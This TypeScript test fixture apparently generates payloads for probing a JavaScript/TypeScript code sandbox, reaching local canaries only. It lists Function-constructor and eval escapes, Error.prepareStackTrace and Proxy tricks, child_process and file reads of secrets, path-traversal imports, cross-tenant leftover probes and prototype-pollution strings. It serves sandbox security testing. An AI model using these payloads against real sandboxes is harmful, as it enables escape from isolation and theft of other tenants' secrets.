import type { Place } from './canaries.fixture.ts';

export type Payload = {
  family: string;
  source: string;
  kind?: 'body' | 'module';
  language?: 'javascript' | 'typescript';
};

/** What an attacker does with a way to run code outside: each reaches one of the canaries where nothing stops it. */
export function goals({ file, mark, port, name }: Place): string[] {
  const text = (value: string) => JSON.stringify(value);
  return [
    `return process.env[${text(name)}]`,
    `return globalThis[${text(name)}]`,
    `return process.getBuiltinModule("fs").readFileSync(${text(file)}, "utf8")`,
    `return import("node:fs").then((fs) => fs.readFileSync(${text(file)}, "utf8"))`,
    `process.getBuiltinModule("fs").writeFileSync(${text(mark)}, ""); return 1`,
    `return process.getBuiltinModule("child_process").execFileSync(process.execPath, ["-e", "console.log(process.env." + ${text(name)} + ")"]).toString()`,
    `return new Promise((done) => process.getBuiltinModule("net").connect(${port}, "127.0.0.1", () => done(1)).on("error", () => done(0)))`,
    `return fetch("http://127.0.0.1:${port}").then((reply) => reply.status)`,
  ];
}

/** Ways to a function that makes code from text. */
const MAKERS = [
  'Function',
  'this.constructor.constructor',
  '[].constructor.constructor',
  '"".constructor.constructor',
  '(0).constructor.constructor',
  '(() => {}).constructor',
  '(async () => {}).constructor',
  '(class {}).constructor',
  'console.log.constructor',
  'console.constructor.constructor',
  'ctx.step.constructor',
  'ctx.log.constructor',
  'ctx.constructor.constructor',
  '$input.all.constructor',
  '$json.constructor.constructor',
  'items.constructor.constructor',
  'items.map.constructor',
  '$.constructor',
  'Reflect.get(() => {}, "constructor")',
  'Object.getPrototypeOf(async () => {}).constructor',
  'Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).constructor.constructor',
  'Symbol.iterator.constructor.constructor',
  'Date.constructor',
  'Date.now.constructor',
  'Math.random.constructor',
  'Promise.resolve().then.constructor',
  'new Proxy(function () {}, {}).constructor',
  'Object.getOwnPropertyDescriptor(globalThis, "$json").get.constructor',
  'Object.getOwnPropertyDescriptor(globalThis, "item").set.constructor',
  'Error.prepareStackTrace?.constructor ?? Error.constructor',
  'JSON.parse.constructor',
  'Array.from.constructor',
  'RegExp.prototype.exec.constructor',
  'Intl.DateTimeFormat.constructor',
  'new Map().set.constructor',
  '(function () { return arguments.callee.constructor })()',
  'DateTime.now().constructor.constructor',
  '$now.toISO.constructor',
  'Reflect.construct.constructor',
  'structuredCloneOrNot().constructor',
];

/** The same, where the text is run by another door than a call. */
const DOORS = [
  (code: string) => `return eval(${JSON.stringify(`(function () { ${code} })()`)})`,
  (code: string) => `return (0, eval)(${JSON.stringify(`(function () { ${code} })()`)})`,
  (code: string) => `return globalThis.eval(${JSON.stringify(`(() => { ${code} })()`)})`,
  (code: string) => `const o = { toString() { return ${JSON.stringify(code)} } }; return new Function(o)()`,
  (code: string) => `return Reflect.construct(Function, [${JSON.stringify(code)}])()`,
  (code: string) => `return [${JSON.stringify(code)}].map(Function)[0]()`,
  (code: string) => `return (function* () {}).constructor(${JSON.stringify(code)})().next().value`,
  (code: string) => `return (async function* () {}).constructor(${JSON.stringify(code)})().next().then((n) => n.value)`,
  (code: string) => `return Function.prototype.call.call(Function, null, ${JSON.stringify(code)})()`,
  (code: string) => `return (function () { ${code} }).call(undefined)`,
  (code: string) => `return (() => { ${code} })()`,
  (code: string) =>
    `return Error.prepareStackTrace = (e, s) => s[0].getFunction().constructor(${JSON.stringify(code)})(), new Error().stack`,
  (code: string) =>
    `return Error.prepareStackTrace = (e, s) => s.at(-1).getThis().constructor.constructor(${JSON.stringify(code)})(), new Error().stack`,
  (code: string) => `return (function f() { return f.caller.constructor(${JSON.stringify(code)})() })()`,
  (code: string) => `return { then(done) { done(done.constructor(${JSON.stringify(code)})()) } }`,
  (code: string) => `return { toJSON() { return (() => {}).constructor(${JSON.stringify(code)})() } }`,
  (code: string) => `return { get x() { return (() => {}).constructor(${JSON.stringify(code)})() } }`,
  (code: string) =>
    `return new Proxy({}, { ownKeys: () => ["x"], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }), get: (t, k, r) => (() => {}).constructor(${JSON.stringify(code)})() })`,
  (code: string) => `throw { get message() { return String((() => {}).constructor(${JSON.stringify(code)})()) } }`,
  (code: string) =>
    `throw { name: "x", message: "y", get stack() { return String((() => {}).constructor(${JSON.stringify(code)})()) } }`,
  (code: string) =>
    `throw new Proxy(new Error(), { get: () => String((() => {}).constructor(${JSON.stringify(code)})()) })`,
  (code: string) => `console.log({ toJSON: () => (() => {}).constructor(${JSON.stringify(code)})() }); return 1`,
  (code: string) =>
    `console.log({ [Symbol.toPrimitive]: () => (() => {}).constructor(${JSON.stringify(code)})() }); return 1`,
  (code: string) => `JSON.stringify = (v) => (() => {}).constructor(${JSON.stringify(code)})(); return 1`,
  (code: string) =>
    `Array.prototype.push = function () { return (() => {}).constructor(${JSON.stringify(code)})() }; return 1`,
  (code: string) =>
    `Object.defineProperty(Object.prototype, "then", { get() { return (() => {}).constructor(${JSON.stringify(code)})() } }); return {}`,
  (code: string) =>
    `Promise.prototype.then = function (f) { return f((() => {}).constructor(${JSON.stringify(code)})()) }; return Promise.resolve(1)`,
  (code: string) =>
    `\n}); ${code.replace(/^return /, 'globalThis.kept = ')}; (async function () {\nreturn globalThis.kept`,
  (code: string) => `/* */ }).constructor(${JSON.stringify(code)})(); (async function () {`,
  (code: string) =>
    `return import("data:text/javascript," + encodeURIComponent(${JSON.stringify(`export default (() => { ${code} })()`)})).then((m) => m.default)`,
];

const HANDLES =
  'ivm isolate _ivm $0 $1 _reference reference Reference ExternalCopy Isolate Context Callback harness prepare run input sluice host __host external process require module exports Buffer global root self window parent top Deno Bun WorkerGlobalScope importScripts postMessage navigator setImmediate queueMicrotask performance structuredClone gc d8 print read load quit version os Realm ShadowRealm WebAssembly SharedArrayBuffer Atomics luxon native natives __filename __dirname'.split(
    ' ',
  );

/** Things to ask of a handle, if there is one. */
const ASK = (name: string, goal: string) =>
  `const h = typeof ${name} === "undefined" ? undefined : ${name}; return [typeof h, h && h.constructor && h.constructor.constructor && (h.constructor.constructor)(${JSON.stringify(goal)})()]`;

const SPECIFIERS = (file: string) => [
  'fs',
  'node:fs',
  'node:process',
  'node:net',
  'node:child_process',
  'node:vm',
  'node:module',
  'node:worker_threads',
  'isolated-vm',
  'amaro',
  file,
  `file://${file}`,
  `./../../../../../../../../..${file}`,
  './score.ts/../../../isolate.ts',
  'data:text/javascript,export default 1',
  'https://example.com/x.js',
  '#shared/error.ts',
  './constructor',
  './__proto__',
  './../scripts/../main.ts',
  './%2e%2e/%2e%2e/main.ts',
  '.\\..\\main.ts',
  './\u0000.ts',
  './a.ts?x',
  './a.ts#x',
  '',
];

const TYPESCRIPT = ({ file, name }: Place) => [
  `import fs = require("fs"); export default () => fs.readFileSync(${JSON.stringify(file)}, "utf8");`,
  `export = () => process.env[${JSON.stringify(name)}];`,
  `enum A { x = (() => {}).constructor("return process.env.${name}")() } export default () => A.x;`,
  `enum A { "__proto__" = 1 } export default () => (A as any).constructor.constructor("return process.env.${name}")();`,
  `namespace N { export const f = (() => {}).constructor("return globalThis.${name}")() } export default () => N.f;`,
  `declare const process: any; export default () => process.env.${name};`,
  `declare module "fs" { } import { readFileSync } from "fs"; export default () => readFileSync(${JSON.stringify(file)});`,
  `/// <reference path=${JSON.stringify(file)} />\nexport default () => 1;`,
  `export default () => 1;\n//# sourceMappingURL=file://${file}`,
  `//# sourceURL=file://${file}\nexport default () => { throw new Error("x") };`,
  `export default () => { throw new Error("at f (${file}:1:1)") };`,
  `function dec(t: any) { return t.constructor("return process.env.${name}")() } @dec class A {} export default () => A;`,
  `class A { constructor(public x = (() => {}).constructor("return process.env.${name}")()) {} } export default () => new A().x;`,
  `class A { static { (globalThis as any).kept = (() => {}).constructor("return process.env.${name}")() } } export default () => (globalThis as any).kept;`,
  `export default (item: any, ctx: any) => ctx.step.constructor("return process.env.${name}")();`,
  `export default (import.meta as any).constructor;`,
  `export default () => [Object.keys(import.meta), (import.meta as any).url, (import.meta as any).dirname];`,
  `export default () => import.meta.resolve(${JSON.stringify(file)});`,
  `export * from "node:fs"; export default () => 1;`,
  `export { readFileSync as default } from "node:fs";`,
  `import data from ${JSON.stringify(file)} with { type: "text" }; export default () => data;`,
  `import type fs from "fs"; export default () => (fs as any).readFileSync(${JSON.stringify(file)}, "utf8");`,
  `const { env } = globalThis.process ?? {}; export default () => env?.${name};`,
  `export default await import("node:fs");`,
  `abstract class A { declare x: string } export default () => (A as any).x;`,
];

/** Looks for what another tenant's call left behind. */
const REMAINS = [
  'return globalThis.kept',
  'return Object.prototype.kept',
  'return Array.prototype.kept',
  'return [][Symbol.for("kept")]',
  'return Symbol.for("kept").description + (globalThis[Symbol.for("kept")] ?? "")',
  'return [RegExp.$1, RegExp.input, RegExp.lastMatch, RegExp.leftContext, RegExp["$&"]]',
  'return Reflect.ownKeys(globalThis).map((k) => { try { return [String(k), JSON.stringify(globalThis[k])] } catch { return 0 } })',
  'return [Error.kept, Error.stackTraceLimit, String(Error.prepareStackTrace)]',
  'return Function.prototype.kept',
  'return Promise.kept',
  'return JSON.kept',
  'return Intl.kept',
  'return console.kept ?? ctx.kept ?? $json.kept ?? items.kept',
  'return new Error().stack',
  'return (function () { return this.kept }).call(null)',
  'return [..."x".matchAll(/x/g)].kept ?? RegExp.prototype.kept',
  'return Date.kept ?? Date.prototype.kept ?? Math.kept',
  'return Object.getOwnPropertySymbols(globalThis).map(String)',
  'return new Array(1000).fill(new ArrayBuffer(65536)).map((b) => String.fromCharCode(...new Uint8Array(b).slice(0, 100))).join("").replaceAll("\\0", "")',
  'return new Uint8Array(new ArrayBuffer(10_000_000)).findIndex((b) => b !== 0)',
  'return $("other").all()',
  'return ctx.step("__proto__")',
  'return ctx.step("constructor").all()',
  'return [$trigger, $request, $env, $run, $workflow]',
];

/** What a tenant with the secret leaves wherever a next call might look. */
export const leaveBehind = (secret: string) =>
  `const s = ${JSON.stringify(secret)}; globalThis.kept = s; globalThis[Symbol.for("kept")] = s; /(canary.*)/.exec(s);
for (const o of [Object.prototype, Array.prototype, Error, Function.prototype, Promise, JSON, Intl, console, RegExp.prototype, Date, Math]) try { Object.defineProperty(o, "kept", { value: s, configurable: true }) } catch {}
Error.prepareStackTrace = () => s; new Uint8Array(100_000).fill(99); return 1`;

/** Tries to change objects of ours through what crosses: results, logs, errors. */
const POLLUTION = [
  `return JSON.parse('{"__proto__":{"polluted":1}}')`,
  `return JSON.parse('{"constructor":{"prototype":{"polluted":1}}}')`,
  `return { json: JSON.parse('{"__proto__":{"polluted":1}}'), binary: JSON.parse('{"__proto__":{"polluted":1}}') }`,
  `return [JSON.parse('{"__proto__":{"polluted":1},"json":{}}')]`,
  `Object.prototype.polluted = 1; Array.prototype.polluted = 1; return {}`,
  `console.log(JSON.parse('{"__proto__":{"polluted":1}}')); return 1`,
  `console.__proto__.polluted = 1; return 1`,
  `throw Object.assign(new Error("x"), JSON.parse('{"__proto__":{"polluted":1}}'))`,
  `throw JSON.parse('{"__proto__":{"polluted":1},"message":"x","name":"y","code":"internal"}')`,
  `$json.__proto__.polluted = 1; return $json`,
  `items.__proto__.polluted = 1; return items`,
  `Object.defineProperty(Object.prototype, "toJSON", { value: () => ({ polluted: 1 }) }); return {}`,
  `return '\\n{"id":1,"logs":[]}\\n[{"polluted":1}]'`,
  `console.log('"}],"failure":{"code":"internal"}}\\n[1]'); return 1`,
  `Array.prototype.join = () => '1]\\n{"id":1,"logs":[],"__proto__":{"polluted":1}}\\n['; return 1`,
  `String.prototype.slice = () => '{"__proto__":{"polluted":1}}'; throw new Error("x")`,
  `Object.prototype.get = 1; Object.prototype.value = 1; return {}`,
  `ctx.env.__proto__.polluted = 1; ctx.run.constructor.prototype.polluted = 1; return 1`,
  `Object.setPrototypeOf(globalThis, { polluted: 1 }); return 1`,
  `return Object.assign(Object.create({ polluted: 1 }), { __proto__: { polluted: 1 } })`,
];

/** Every payload for JavaScript and TypeScript, each text once. */
export function javascriptPayloads(place: Place): Payload[] {
  const all: Payload[] = [];
  const wanted = goals(place);
  for (const maker of MAKERS)
    for (const goal of wanted)
      all.push({ family: 'makers of code', source: `return (${maker})(${JSON.stringify(goal)})()` });
  for (const door of DOORS) for (const goal of wanted) all.push({ family: 'other doors', source: door(goal) });
  for (const [index, name] of HANDLES.entries())
    all.push({ family: 'handles of the host', source: ASK(name, wanted[index % wanted.length] as string) });
  for (const specifier of SPECIFIERS(place.file)) {
    const text = JSON.stringify(specifier);
    all.push({ family: 'imports', source: `return import(${text}).then((m) => Object.keys(m))` });
    all.push({
      family: 'imports',
      kind: 'module',
      source: `import * as m from ${text}; export default () => Object.keys(m);`,
    });
  }
  for (const source of TYPESCRIPT(place))
    all.push({ family: 'types that become code', kind: 'module', language: 'typescript', source });
  for (const source of REMAINS) all.push({ family: 'remains of others', source });
  for (const source of POLLUTION) all.push({ family: 'pollution', source });
  return [...new Map(all.map((payload) => [`${payload.kind} ${payload.source}`, payload])).values()];
}
